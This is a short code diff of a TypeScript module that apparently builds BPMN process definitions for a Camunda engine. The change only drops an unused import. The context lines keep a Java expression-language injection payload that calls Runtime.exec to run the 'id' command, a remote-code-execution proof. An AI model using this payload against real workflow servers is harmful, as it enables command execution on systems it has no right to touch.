@@ -1,4 +1,4 @@
-import { definitions, extension, EXTERNAL, type Files, flow, GROUP, ITEM, process, straight } from "./frame.ts";
+import { definitions, extension, type Files, flow, GROUP, ITEM, process, straight } from "./frame.ts";
 
 const CLASS = "org.camunda.bpm.engine.impl.bpmn.behavior.NoneStartEventActivityBehavior";
 const CALL = "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}";
